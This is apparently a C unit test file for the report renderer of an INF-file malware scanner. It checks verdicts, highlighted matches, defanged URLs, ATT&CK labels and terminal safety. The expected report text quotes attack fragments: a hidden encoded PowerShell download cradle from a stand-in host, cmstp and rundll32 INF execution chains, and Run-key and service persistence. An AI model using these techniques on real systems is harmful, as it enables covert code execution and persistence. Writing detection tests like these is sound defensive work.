/* SPDX-License-Identifier: MIT */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/utf8.h"
#include "fake_result.h"

static const struct infscan_render_options plain = {0};

static void has(const char *report, const char *part)
{
    if (!strstr(report, part)) {
        fail_msg("'%s' is not in:\n%s", part, report);
    }
}

static void has_not(const char *report, const char *part)
{
    if (strstr(report, part)) {
        fail_msg("'%s' is in:\n%s", part, report);
    }
}

/* No line but the first goes on behind the width, unless it is a word that
 * does: words stay in one piece. */
static void assert_fits(const char *report, size_t width)
{
    struct str rest = str_from(report);
    struct str line;

    str_next(&rest, '\n', &line);
    while (str_next(&rest, '\n', &line)) {
        if (utf8_count(line) > width &&
            str_find_char(line, ' ', width) != STR_NONE) {
            fail_msg("wider than %zu: %.*s", width, (int)line.len, line.bytes);
        }
    }
}

static void first_line_says_it(void **state)
{
    char *report = fake_render(fake_malicious(), &plain);

    (void)state;
    assert_int_equal(
        strncmp(report, "malicious   92  evil.inf  [partial]\n", 36), 0);
    free(report);
}

static void quiet_is_one_line(void **state)
{
    struct infscan_render_options quiet = {.flags = INFSCAN_RENDER_QUIET};
    char *report = fake_render(fake_malicious(), &quiet);

    (void)state;
    assert_string_equal(report, "malicious   92  evil.inf  [partial]\n");
    free(report);
    report = fake_render(fake_error(), &quiet);
    assert_string_equal(
        report, "error        -  gone.inf: No such file or directory\n");
    free(report);
}

static void match_is_underlined(void **state)
{
    char *report = fake_render(fake_malicious(), &plain);

    (void)state;
    has(report, "      6 | powershell.exe -w hidden -enc SQBFAFgA\n"
                "        |                ^~~~~~~~~\n");
    has(report, ".DownloadString('hxxp://bad[.]example[.]invalid/a.ps1')\n"
                "       ^~~~~~~~~~~~~~\n");
    free(report);
}

static void story_is_told(void **state)
{
    char *report = fake_render(fake_malicious(), &plain);

    (void)state;
    has(report, "cmstp.exe /s FILE enters [DefaultInstall]\n");
    has(report, "via [DefaultInstall] RunPreSetupCommands, line 4 > [Pre], "
                "line 6\n");
    has(report, "cmstp.exe /s FILE enters [DefaultInstall]\n"
                "  rundll32.exe advpack.dll,LaunchINFSection FILE enters "
                "[DefaultInstall], on\n");
    has(report, "decoded 1, powershell.encoded-command:\n");
    has(report, "not resolved: the variable is never set\n");
    has(report,
        "Network  addresses\n  url       hxxp://bad[.]example[.]invalid/a.ps1  "
        "(download, #0, decoded 1, line\n            6)\n");
    has(report, "  file      C:\\Windows\\System32\\a.dll\n");
    has(report, "  cmstp.exe, rundll32.exe > powershell.exe\n");
    has(report, "the limit layers (32) was reached");
    has_not(report, "INF0013");
    has_not(report, "http://");
    free(report);
}

static void verbose_shows_all(void **state)
{
    struct infscan_render_options verbose = {.flags = INFSCAN_RENDER_VERBOSE};
    char *report = fake_render(fake_malicious(), &verbose);

    (void)state;
    has(report, "#1 write-registry: HKCU\\Software\\Example -> Run = 7\n");
    has(report, "  INF0013  low       no Signature");
    has(report, "What would remain  changes that last\n"
                "  file-written: C:\\Windows\\System32\\a.dll = a.dll\n"
                "      line 3; cmstp, advpack\n"
                "  value-set: HKCU\\Software\\Example, Run = 7\n"
                "      starts at logon; only-if-absent; other.inf, line 4; "
                "cmstp, advpack; x86\n");
    free(report);
}

static void difference_is_told(void **state)
{
    char *report = fake_render_difference(fake_difference(), NULL);

    (void)state;
    has(report, "--- malicious   92  evil.inf  [partial]\n");
    has(report, "Only the first would do 1, only the second 1; 1 reached in "
                "another way.\n");
    has(report, "+  run-command: a\\x1b[2J");
    has(report, "      line 1; cmstp; amd64\n");
    has(report, "-  file-written: C:\\Windows\\System32\\a.dll = a.dll\n"
                "      line 3; cmstp, advpack\n");
    has(report, "~  value-set: HKCU\\Software\\Example, Run = 7\n");
    has(report, "    > ");
    for (const char *c = report; *c; c++) {
        assert_true(*c == '\n' || ((unsigned char)*c >= 0x20 && *c != 0x7f));
    }
    free(report);

    struct infscan_render_options quiet = {.flags = INFSCAN_RENDER_QUIET};
    report = fake_render_difference(fake_equal(), &quiet);
    assert_string_equal(report, "Both would do the same.\n");
    free(report);
}

static void addresses_stay_live_on_request(void **state)
{
    struct infscan_render_options live = {.flags = INFSCAN_RENDER_NO_DEFANG};
    char *report = fake_render(fake_malicious(), &live);

    (void)state;
    has(report, "http://bad.example.invalid/a.ps1");
    has_not(report, "hxxp");
    free(report);
}

static void clean_says_what_it_means(void **state)
{
    char *report = fake_render(fake_clean(), &plain);

    (void)state;
    has(report, "clean        0  clean.inf\n");
    has(report, "\"Clean\" speaks of this file's content");
    has(report, "Windows would refuse this file: ERROR_WRONG_INF_STYLE, line "
                "3.");
    free(report);
    report = fake_render(fake_brief(), &plain);
    assert_string_equal(report, "clean        0  plain.inf  (content only)\n");
    free(report);
}

static void worst_comes_first(void **state)
{
    char *report = fake_render(fake_malicious(), &plain);
    const char *worst = strstr(report, "  high      #0 PowerShell runs in a "
                                       "hidden window\n");
    const char *whole =
        strstr(report, "  medium    All it does is run  shape.bare");
    const char *least = strstr(report, "  low       #0 PowerShell downloads\n");

    (void)state;
    assert_non_null(worst);
    assert_non_null(whole);
    assert_non_null(least);
    assert_true(worst < whole && whole < least);
    free(report);
}

static void points_are_said_once_given(void **state)
{
    char *report = fake_render(fake_malicious(), &plain);

    (void)state;
    has(report,
        "    powershell.hidden-window  +25  T1564.003  goodware 2/3000\n");
    has_not(report, "+0");
    has_not(report, "It says so itself.");
    free(report);
}

static void shape_names_its_lines(void **state)
{
    char *report = fake_render(fake_malicious(), &plain);

    (void)state;
    has(report, "  medium    All it does is run  shape.bare  lines 6, 4\n");
    free(report);
}

static void verdict_says_what_it_rests_on(void **state)
{
    char *report = fake_render(fake_malicious(), &plain);

    (void)state;
    has(report,
        "\nVerdict  12 points above the threshold of malicious. Without\n"
        "  powershell.hidden-window it would be suspicious.\n");
    free(report);
}

static void what_stays_is_told_apart(void **state)
{
    char *report = fake_render(fake_staying(), &plain);

    (void)state;
    has(report, "    #0 install-service: Svc = C:\\Windows\\System32\\cmd.exe");
    has(report, " evil,\n       started with Windows\n");
    has(report, "    #2 load-dll: C:\\Windows\\System32\\scrobj.dll, "
                "DllInstall\n");
    has(report, "Persistence  what would start again\n  service   Svc = ");
    has(report, "Hunt for  what to look for on a host\n  service   Drv = ");
    has_not(report, "file      C:\\Windows\\System32\\scrobj.dll");
    free(report);
}

static void processes_have_their_own_parents(void **state)
{
    char *report = fake_render(fake_staying(), &plain);

    (void)state;
    has(report, "Processes to expect  parent > child\n"
                "  services.exe > cmd.exe > evil.exe\n"
                "  explorer.exe > tool.exe\n");
    has_not(report, "drv.sys.exe");
    free(report);
}

static void techniques_have_names(void **state)
{
    char *report = fake_render(fake_malicious(), &plain);

    (void)state;
    has(report, "ATT&CK  techniques and tactics\n  T1564.003  Hide Artifacts: "
                "Hidden Window (");
    free(report);
}

static void long_words_stay_whole(void **state)
{
    struct infscan_render_options narrow = {.width = 30};
    char *report = fake_render(fake_malicious(), &narrow);

    (void)state;
    has(report, "hxxp://bad[.]example[.]invalid/a.ps1");
    has(report, "C:\\Windows\\System32\\a.dll");
    free(report);
}

static void lines_fit_the_width(void **state)
{
    static const unsigned widths[] = {30, 40, 80, 120};

    (void)state;
    for (size_t i = 0; i < sizeof widths / sizeof widths[0]; i++) {
        struct infscan_render_options options = {
            .flags = INFSCAN_RENDER_VERBOSE, .width = widths[i]};
        char *report = fake_render(fake_malicious(), &options);
        assert_fits(report, widths[i]);
        free(report);
        report = fake_render(fake_hostile(), &options);
        assert_fits(report, widths[i]);
        free(report);
    }
}

static void nothing_steers_the_terminal(void **state)
{
    struct infscan_render_options options = {.flags = INFSCAN_RENDER_VERBOSE};
    char *report = fake_render(fake_hostile(), &options);
    struct str rest = str_from(report);

    (void)state;
    assert_true(utf8_is_valid(rest));
    while (rest.len) {
        uint32_t code;
        size_t n = utf8_decode(rest, &code);
        assert_true(code >= 0x20 || code == '\n');
        assert_false(code >= 0x7F && code < 0xA0);
        assert_false(utf8_is_invisible(code));
        rest = str_sub(rest, n, rest.len);
    }
    free(report);
}

static void colour_only_when_asked(void **state)
{
    struct infscan_render_options color = {.flags = INFSCAN_RENDER_COLOR};
    char *report = fake_render(fake_malicious(), &color);

    (void)state;
    has(report, "\x1b[1;31mmalicious \x1b[0m");
    free(report);
    report = fake_render(fake_malicious(), &plain);
    has_not(report, "\x1b");
    free(report);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(first_line_says_it),
        cmocka_unit_test(quiet_is_one_line),
        cmocka_unit_test(match_is_underlined),
        cmocka_unit_test(story_is_told),
        cmocka_unit_test(verbose_shows_all),
        cmocka_unit_test(difference_is_told),
        cmocka_unit_test(addresses_stay_live_on_request),
        cmocka_unit_test(clean_says_what_it_means),
        cmocka_unit_test(worst_comes_first),
        cmocka_unit_test(points_are_said_once_given),
        cmocka_unit_test(shape_names_its_lines),
        cmocka_unit_test(verdict_says_what_it_rests_on),
        cmocka_unit_test(what_stays_is_told_apart),
        cmocka_unit_test(processes_have_their_own_parents),
        cmocka_unit_test(techniques_have_names),
        cmocka_unit_test(long_words_stay_whole),
        cmocka_unit_test(lines_fit_the_width),
        cmocka_unit_test(nothing_steers_the_terminal),
        cmocka_unit_test(colour_only_when_asked),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
